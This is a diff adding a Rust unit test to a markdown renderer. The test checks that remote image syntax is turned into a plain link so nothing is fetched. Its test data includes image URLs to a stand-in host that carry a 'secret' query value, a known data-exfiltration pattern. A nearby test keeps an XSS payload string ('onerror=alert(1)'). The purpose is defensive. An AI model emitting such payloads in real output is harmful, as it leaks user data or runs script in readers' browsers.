@@ -254,6 +254,23 @@ mod tests {
         );
     }
 
+    /// Nothing is fetched for a message: a picture elsewhere is a link that says so, whoever wrote it.
+    #[test]
+    fn s49_a_picture_elsewhere_is_a_link() {
+        for (markdown, href) in [
+            ("![x](https://evil.test/?c=secret)", "https://evil.test/?c=secret"),
+            ("![x][one]\n\n[one]: https://evil.test/p.png", "https://evil.test/p.png"),
+            ("[![x](https://evil.test/p.png)](https://evil.test/q)", "https://evil.test/q"),
+        ] {
+            let tree = json!(to_tree(markdown)).to_string();
+            assert!(tree.contains(&format!(r#"["a",{{"href":"{href}"}}"#)), "{tree}");
+            assert!(!tree.contains("img") && !tree.contains("src"), "{tree}");
+        }
+        // What a visitor types is no link of that kind at all.
+        let typed = json!(to_tree(&from_typed("![x](https://evil.test/?c=secret)"))).to_string();
+        assert!(!typed.contains("\"x\"") && typed.contains("![x]("), "{typed}");
+    }
+
     #[test]
     fn html_is_text_and_tables_are_tables() {
         assert_eq!(to_tree("<img src=x onerror=alert(1)>"), [json!("<img src=x onerror=alert(1)>")]);
